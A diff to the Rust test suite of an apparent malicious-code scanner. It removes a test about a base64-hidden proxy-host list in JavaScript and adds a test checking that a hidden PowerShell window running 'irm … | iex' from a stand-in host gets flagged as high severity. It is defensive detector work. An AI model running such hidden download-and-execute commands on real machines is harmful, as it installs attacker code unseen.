@@ -181,19 +181,6 @@ fn what_is_typed_into_a_batch_file_is_not_the_environment() {
 }
 
 #[test]
-fn whether_there_is_an_address_at_all_is_compared_with_no_list() {
-    let code = |test: &str| {
-        format!(
-            "const l = atob('cHJveHkuaW52YWxpZCxnYXRlLmludmFsaWQ=').split(',');\n\
-             const known = l.includes(process.env.HTTPS_PROXY);\nif ({test}) {{ mark(); }}\n"
-        )
-    };
-    let told = |test: &str| outcome(Language::JavaScript, &code(test)).choices.iter().any(|c| c.is_by_hidden_list());
-    assert!(!told("known == null"));
-    assert!(told("known") && told("known == other()"));
-}
-
-#[test]
 fn a_file_of_any_name_is_none_that_the_package_brings() {
     let code = |file: &str| format!("name = input()\neval(open({file}).read())\n");
     let runs = |file: &str| weight(Language::Python, &code(file), "flow-executes-data-file");
@@ -235,4 +222,15 @@ fn what_is_masked_in_a_text_is_not_in_it() {
     );
     assert!(javascript("text = text.replaceAll('***', v);") >= Some(Severity::High));
     assert!(javascript("text = text.split(' ').join(v);") >= Some(Severity::High));
+}
+
+#[test]
+fn a_shell_that_gets_a_known_tool_hides_nothing() {
+    let code =
+        |line: &str| format!("& $ps -ExecutionPolicy ByPass -WindowStyle Hidden -c \"{line}\" 2>&1 | Out-Null\n");
+    let code = |line: &str| code(line).replace("$ps", "powershell");
+    let hides = |line: &str| weight(Language::PowerShell, &code(line), "flow-hidden-shell");
+    assert!(hides("irm https://astral.sh/uv/install.ps1 | iex") < Some(Severity::High));
+    assert!(hides("irm https://h.invalid/install.ps1 | iex") >= Some(Severity::High));
+    assert!(hides("irm https://astral.sh/uv/install.ps1 | iex; irm https://h.invalid/x | iex") >= Some(Severity::High));
 }
